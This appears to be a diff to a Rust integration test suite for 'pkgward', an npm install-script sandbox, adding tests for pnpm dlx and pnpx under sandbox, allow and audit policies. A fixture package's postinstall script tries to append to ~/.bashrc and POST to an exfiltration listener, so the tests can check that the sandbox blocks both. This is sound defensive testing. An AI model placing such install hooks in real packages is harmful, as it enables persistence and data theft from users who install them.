@@ -3,7 +3,9 @@
 //! the dlx run, confined (it cannot write outside, reach the listener or
 //! read the private key), recorded with its exit code and duration; its
 //! unapproved sibling's malicious postinstall does nothing and is listed
-//! with the command that approves it and recorded as denied. bunx: the
+//! with the command that approves it and recorded as denied. Under
+//! `default = "sandbox"` / `"allow"` and in audit mode every dependency of
+//! a `pnpm dlx` tool builds in its run (sandbox: confined). bunx: the
 //! same, pkgward preparing its cache entry before it runs; where pkgward
 //! does not, bunx builds nothing, not even a package on bun's default
 //! trusted list.
@@ -69,6 +71,41 @@ fn fixtures() {
                 .field("bin", serde_json::json!({"pw-dlx-failcli": "cli.js"}))
                 .executable("cli.js", "#!/usr/bin/env node\nconsole.log('command ran');\n"),
         );
+        // A dependency no `allow` entry names, built under `default =
+        // "sandbox"` / audit mode: it writes inside its own directory, tries
+        // a write outside and a loopback connection, and succeeds anyway.
+        r.publish_npm(
+            &NpmPackage::new("pw-dlx-boxed", "1.0.0")
+                .script("postinstall", "node boxed.js")
+                .file(
+                    "boxed.js",
+                    format!(
+                        "{}const os = require('os'), http = require('http');\n\
+                         fs.writeFileSync(path.join(__dirname, 'built.txt'), 'boxed\\n');\n\
+                         let seen = '';\n\
+                         try {{ fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'boxed\\n'); seen += 'bashrc:written'; }} catch (e) {{ seen += 'bashrc:refused'; }}\n\
+                         const url = fs.readFileSync(path.join(os.homedir(), '.exfil-url'), 'utf8').trim();\n\
+                         const done = (r) => fs.appendFileSync(path.join(dir, 'dlx-boxed'), seen + ' net:' + r + '\\n');\n\
+                         const req = http.request(url + '/boxed', {{ method: 'POST', timeout: 5000 }}, (res) => {{ res.resume(); done('reached'); }});\n\
+                         req.on('timeout', () => req.destroy(new Error('timeout')));\n\
+                         req.on('error', () => done('refused')); req.end('x');\n",
+                        js_marker("dlx-boxed-ran")
+                    ),
+                ),
+        );
+        r.publish_npm(
+            &NpmPackage::new("pw-dlx-boxcli", "1.0.0")
+                .dep("pw-dlx-boxed", "^1.0.0")
+                .field("bin", serde_json::json!({"pw-dlx-boxcli": "cli.js"}))
+                .executable(
+                    "cli.js",
+                    "#!/usr/bin/env node\n\
+                     const fs = require('fs'), path = require('path');\n\
+                     const dir = path.dirname(require.resolve('pw-dlx-boxed/package.json'));\n\
+                     if (!fs.existsSync(path.join(dir, 'built.txt'))) { console.log('boxed missing'); process.exit(3); }\n\
+                     console.log('boxed ok');\n",
+                ),
+        );
         r.publish_npm(
             &NpmPackage::new("pw-dlx-cli", "1.0.0")
                 .dep("pw-dlx-native", "^1.0.0")
@@ -93,6 +130,10 @@ struct T {
 }
 
 fn setup(tool: &str, policy_extra: &str) -> T {
+    setup_in(tool, "enforce", policy_extra)
+}
+
+fn setup_in(tool: &str, mode: &str, policy_extra: &str) -> T {
     fixtures();
     let exfil = Listener::start();
     let host = exfil
@@ -102,7 +143,7 @@ fn setup(tool: &str, policy_extra: &str) -> T {
         .to_string();
     let reg = shared().npm_url();
     let g = Guarded::new(&format!(
-        "mode = \"enforce\"\n[registries]\nnpm = [\"{reg}\"]\n[network]\nallow = [\"{host}\"]\n{policy_extra}"
+        "mode = \"{mode}\"\n[registries]\nnpm = [\"{reg}\"]\n[network]\nallow = [\"{host}\"]\n{policy_extra}"
     ));
     std::os::unix::fs::symlink(support::guard::pkgward_bin(), g.shims.join(tool)).unwrap();
     let home = &g.sb.home;
@@ -238,6 +279,95 @@ fn pnpm_dlx_builds_approved_packages_confined() {
         "{err}"
     );
     no_effects_of_sneak(&t);
+}
+
+/// `pnpm dlx` under `default = "sandbox"`: pnpm has no switch that makes
+/// dlx start every build, so pkgward resolves the tree first and names each
+/// package with install-time code as `--allow-build`; the dependency no
+/// `allow` entry names builds inside the run, confined (it writes its own
+/// directory, not the home; the listener hears nothing), recorded as
+/// `sandbox` with its exit code. A second run reuses pnpm's cache entry
+/// (the same `--allow-build` list, the same key): nothing is built again.
+#[test]
+fn pnpm_dlx_sandbox_default_builds_every_package_confined() {
+    let t = setup(
+        "pnpm",
+        "[scripts]\ndefault = \"sandbox\"\nallow = [\"npm:pw-dlx-boxcli\"]\n",
+    );
+    let o = run(&t, "pnpm", &["dlx", "pw-dlx-boxcli"]);
+    let (out, err) = (text(&o.stdout), text(&o.stderr));
+    assert!(o.status.success(), "{out}\n{err}");
+    assert!(out.contains("boxed ok"), "{out}\n{err}");
+    assert!(t.g.sb.marker("dlx-boxed-ran").is_some(), "{err}");
+    assert_eq!(
+        t.g.sb.marker("dlx-boxed").as_deref(),
+        Some("bashrc:refused net:refused\n"),
+        "{err}"
+    );
+    assert_eq!(t.exfil.connections().len(), 0, "the listener was reached");
+    assert_eq!(
+        std::fs::read_to_string(t.g.sb.home.join(".bashrc")).unwrap(),
+        "# rc\n"
+    );
+    assert!(!err.contains("did not build"), "{err}");
+    let recs = scripts(&t.g);
+    let boxed: Vec<_> = recs
+        .iter()
+        .filter(|r| r["package"] == "pw-dlx-boxed")
+        .collect();
+    assert_eq!(boxed.len(), 1, "{recs:#?}");
+    let boxed = boxed[0];
+    assert_eq!(boxed["decision"], "sandbox", "{boxed:#}");
+    assert_eq!(boxed["ran"], true, "{boxed:#}");
+    assert_eq!(boxed["version"], "1.0.0", "{boxed:#}");
+    assert_eq!(boxed["exit_code"], 0, "{boxed:#}");
+    assert!(boxed["sandbox"].is_object(), "{boxed:#}");
+    // pnpm's cache entry again: nothing built or recorded.
+    let o = run(&t, "pnpm", &["dlx", "pw-dlx-boxcli"]);
+    assert!(text(&o.stdout).contains("boxed ok"), "{}", text(&o.stderr));
+    assert_eq!(scripts(&t.g).len(), recs.len(), "{}", text(&o.stderr));
+}
+
+/// `pnpx` in audit mode and `pnpm dlx` under `default = "allow"`: the
+/// dependency no `allow` entry names builds inside the run and is recorded
+/// (`would-deny` / `allow`, with its exit code).
+#[test]
+fn pnpm_dlx_audit_and_allow_build_every_package() {
+    for (tool, args, mode, default, decision) in [
+        (
+            "pnpx",
+            &["pw-dlx-boxcli"][..],
+            "audit",
+            "deny",
+            "would-deny",
+        ),
+        (
+            "pnpm",
+            &["dlx", "pw-dlx-boxcli"][..],
+            "enforce",
+            "allow",
+            "allow",
+        ),
+    ] {
+        let t = setup_in(
+            tool,
+            mode,
+            &format!("[scripts]\ndefault = \"{default}\"\nallow = [\"npm:pw-dlx-boxcli\"]\n"),
+        );
+        let o = run(&t, tool, args);
+        let (out, err) = (text(&o.stdout), text(&o.stderr));
+        assert!(o.status.success(), "{tool}: {out}\n{err}");
+        assert!(out.contains("boxed ok"), "{tool}: {out}\n{err}");
+        assert!(t.g.sb.marker("dlx-boxed-ran").is_some(), "{tool}: {err}");
+        let recs = scripts(&t.g);
+        let boxed = recs
+            .iter()
+            .find(|r| r["package"] == "pw-dlx-boxed")
+            .unwrap_or_else(|| panic!("{tool}: {recs:#?}"));
+        assert_eq!(boxed["decision"], decision, "{boxed:#}");
+        assert_eq!(boxed["ran"], true, "{boxed:#}");
+        assert_eq!(boxed["exit_code"], 0, "{boxed:#}");
+    }
 }
 
 /// `bunx` / `bun x` with npm approvals: pkgward installs the package into
